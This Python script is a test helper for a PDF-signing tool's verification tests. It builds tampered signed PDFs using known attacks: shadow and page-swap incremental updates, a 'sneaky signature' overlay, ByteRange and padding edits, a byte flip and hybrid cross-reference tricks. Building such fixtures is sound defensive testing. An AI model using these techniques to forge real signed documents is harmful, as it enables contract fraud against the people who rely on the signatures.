#!/usr/bin/env python3
"""Crafts hostile PDFs from signed ones for tests/cli/test_pades.sh.  Not part of tsign.

  pdf_attacks.py content IN OUT [TEXT]  an incremental update that redefines page 1's content stream
                                        (same object number) with other text: the shadow attack a
                                        verifier that only checks the ByteRange accepts
  pdf_attacks.py swap-page IN OUT       an incremental update with a new page object (other content)
                                        and the page tree's /Kids pointing to it instead of the signed page
  pdf_attacks.py sneaky IN OUT          an incremental update adding an unsigned signature field whose
                                        widget covers page 1 with an appearance of other text (the
                                        "sneaky signature" attack on approval signatures)
  pdf_attacks.py gap IN OUT [N]         the last signature's ByteRange edited in place (same width):
                                        the second range starts N bytes later (default 4), so the
                                        ranges leave out more than the /Contents string
  pdf_attacks.py pad IN OUT             the last signature's /Contents: the last 16 hex digits of its
                                        zero padding become non-zero data (outside the signed ranges)
  pdf_attacks.py flip IN OUT            one byte inside the data of the file's first stream (signed by
                                        every signature) changed; offsets stay the same
  pdf_attacks.py hybrid IN OUT [deep]   an incremental update whose trailer has /XRefStm (a hybrid-
                                        reference file, ISO 32000-1 §7.5.8.4) pointing to a valid
                                        cross-reference stream; with deep, one more classic update
                                        after it (the hybrid section is not the last one)

Only for classic cross-reference tables (the last section of IN must be 'xref ... trailer') and
objects that are not in object streams, which is what tsign writes on the example minute.
Writes raw bytes; no PDF library.
"""
import re
import sys
import zlib


def die(msg):
    sys.stderr.write("pdf_attacks.py: " + msg + "\n")
    sys.exit(2)


def startxref(b):
    i = b.rfind(b"startxref")
    if i < 0:
        die("no startxref")
    return int(re.match(rb"startxref\s+(\d+)", b[i:]).group(1))


def last_trailer(b):
    sx = startxref(b)
    if not b[sx:sx + 4] == b"xref":
        die("the last cross-reference section is not a classic table")
    t = b.rfind(b"trailer", sx)
    end = b.find(b"startxref", t)
    return b[t:end], sx


def trailer_root_size(b):
    t, sx = last_trailer(b)
    root = re.search(rb"/Root\s+(\d+)\s+(\d+)\s+R", t)
    size = re.search(rb"/Size\s+(\d+)", t)
    if not root or not size:
        die("no /Root or /Size in the last trailer")
    return int(root.group(1)), int(size.group(1)), sx


def object_text(b, num):
    """The last definition of object num (generation 0): its dictionary text (before 'stream' or 'endobj')."""
    last = None
    for m in re.finditer(rb"(?<![0-9])%d 0 obj" % num, b):
        last = m
    if last is None:
        die("object %d not found" % num)
    start = last.end()
    end = b.find(b"endobj", start)
    body = b[start:end]
    s = body.find(b"stream")
    return (body[:s] if s >= 0 else body).strip()


def ref(d, key):
    m = re.search(rb"%s\s+(\d+)\s+0\s+R" % re.escape(key), d)
    if not m:
        die("no %s reference in %r" % (key.decode(), d[:200]))
    return int(m.group(1))


def first_page(b):
    root, _, _ = trailer_root_size(b)
    pages = ref(object_text(b, root), b"/Pages")
    pt = object_text(b, pages)
    kid = re.search(rb"/Kids\s*\[\s*(\d+)\s+0\s+R", pt)
    if not kid:
        die("no /Kids in the page tree")
    return pages, pt, int(kid.group(1))


def append_update(b, objects, size):
    """objects: {num: body bytes}. A classic xref section with /Prev; returns the new file."""
    _, _, prev = trailer_root_size(b)
    t, _ = last_trailer(b)
    keep = b""
    for key in (rb"/Root\s+\d+\s+\d+\s+R", rb"/Info\s+\d+\s+\d+\s+R", rb"/ID\s*\[[^\]]*\]"):
        m = re.search(key, t)
        if m:
            keep += b" " + m.group(0)
    out = bytearray(b)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for num in sorted(objects):
        out += b"%d 1\n%010d 00000 n \n" % (num, offsets[num])
    out += b"trailer\n<< /Size %d%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, keep, prev, xref)
    return bytes(out)


def stream(data):
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def forged_content(text):
    return b"q 1 1 1 rg 0 0 595 842 re f Q BT 0 0 0 rg /F1 28 Tf 72 700 Td (" + text + b") Tj ET"


def cmd_content(b, args):
    text = (args[0] if args else "FORGED: contract amount 9,999,999").encode()
    _, _, page = first_page(b)
    content = ref(object_text(b, page), b"/Contents")
    _, size, _ = trailer_root_size(b)
    return append_update(b, {content: stream(forged_content(text))}, size)


def cmd_swap_page(b, args):
    pages, pt, page = first_page(b)
    _, size, _ = trailer_root_size(b)
    new_page, new_content = size, size + 1
    pd = object_text(b, page)
    pd = re.sub(rb"/Contents\s+\d+\s+0\s+R", b"/Contents %d 0 R" % new_content, pd)
    # Helvetica as /F1, so that the forged text shows (and pdftotext finds it)
    font = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    pd, n = re.subn(rb"/Resources\s+\d+\s+0\s+R", font, pd)
    if n != 1:
        die("the page's /Resources is not a reference")
    pt = re.sub(rb"/Kids\s*\[\s*%d\s+0\s+R" % page, b"/Kids [ %d 0 R" % new_page, pt)
    return append_update(b, {pages: pt, new_page: pd, new_content: stream(forged_content(b"SWAPPED PAGE"))}, size + 2)


def append_to_array(d, key, item):
    m = re.search(rb"%s\s*\[([^\]]*)\]" % re.escape(key), d)
    if not m:
        die("no direct %s array" % key.decode())
    return d[:m.end(1)] + b" " + item + b" " + d[m.end(1):]


def cmd_sneaky(b, args):
    root, size, _ = trailer_root_size(b)
    _, _, page = first_page(b)
    widget, ap = size, size + 1
    pd = append_to_array(object_text(b, page), b"/Annots", b"%d 0 R" % widget)
    cat = append_to_array(object_text(b, root), b"/Fields", b"%d 0 R" % widget)
    w = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sneaky) /F 4 /Rect [0 0 595 842] /P %d 0 R /AP << /N %d 0 R >> >>"
         % (page, ap))
    data = forged_content(b"FORGED: contract amount 9,999,999")
    x = (b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1"
         b" /BaseFont /Helvetica >> >> >> /Length %d >>\nstream\n" % len(data)) + data + b"\nendstream"
    return append_update(b, {root: cat, page: pd, widget: w, ap: x}, size + 2)


def last_signature(b):
    m = None
    for m in re.finditer(rb"/ByteRange\s*\[([^\]]*)\]", b):
        pass
    if m is None:
        die("no /ByteRange")
    return m


def cmd_gap(b, args):
    n = int(args[0]) if args else 4
    m = last_signature(b)
    v = [int(x) for x in m.group(1).split()]
    v[2] += n
    v[3] -= n
    text = b"0 %d %d %d" % (v[1], v[2], v[3])
    width = len(m.group(1))
    if len(text) > width:
        die("the new ByteRange does not fit")
    out = bytearray(b)
    out[m.start(1):m.end(1)] = text.ljust(width)
    return bytes(out)


def cmd_pad(b, args):
    m = last_signature(b)
    v = [int(x) for x in m.group(1).split()]
    gt = v[2] - 1  # '>' of /Contents
    if b[gt:gt + 1] != b">" or b[gt - 16:gt] != b"0" * 16:
        die("the /Contents does not end with 16 zero hex digits")
    out = bytearray(b)
    out[gt - 16:gt] = b"DEADBEEFCAFEF00D"
    return bytes(out)


def cmd_flip(b, args):
    i = b.find(b"stream\n")
    if i < 0:
        die("no stream")
    at = i + 7 + 10
    out = bytearray(b)
    out[at] ^= 0x01
    return bytes(out)


def cmd_hybrid(b, args):
    _, size, prev = trailer_root_size(b)
    t, _ = last_trailer(b)
    root = re.search(rb"/Root\s+\d+\s+\d+\s+R", t).group(0)
    out = bytearray(b)
    if not out.endswith(b"\n"):
        out += b"\n"
    dummy, xs = size, size + 1
    off_dummy = len(out)
    out += b"%d 0 obj\n<< /Note (hybrid) >>\nendobj\n" % dummy
    # the cross-reference stream: an entry for the dummy object (type 1)
    rows = b"\x01" + off_dummy.to_bytes(4, "big") + b"\x00"
    data = zlib.compress(rows)
    off_xs = len(out)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Index [%d 1] /Filter /FlateDecode /Length %d >>\nstream\n"
            % (xs, size + 2, dummy, len(data))) + data + b"\nendstream\nendobj\n"
    xref = len(out)
    out += b"xref\n%d 2\n%010d 00000 n \n%010d 00000 n \n" % (dummy, off_dummy, off_xs)
    out += b"trailer\n<< /Size %d %s /Prev %d /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n" % (size + 2, root, prev, off_xs, xref)
    if args and args[0] == "deep":  # one more ordinary update on top: the hybrid section is no longer the last
        return append_update(bytes(out), {size + 2: b"<< /Note (later) >>"}, size + 3)
    return bytes(out)


COMMANDS = {"content": cmd_content, "sneaky": cmd_sneaky, "swap-page": cmd_swap_page, "gap": cmd_gap, "pad": cmd_pad, "flip": cmd_flip,
            "hybrid": cmd_hybrid}


def main():
    if len(sys.argv) < 4 or sys.argv[1] not in COMMANDS:
        die("usage: pdf_attacks.py {%s} IN OUT [ARG]" % ",".join(COMMANDS))
    b = open(sys.argv[2], "rb").read()
    out = COMMANDS[sys.argv[1]](b, sys.argv[4:])
    open(sys.argv[3], "wb").write(out)


if __name__ == "__main__":
    main()
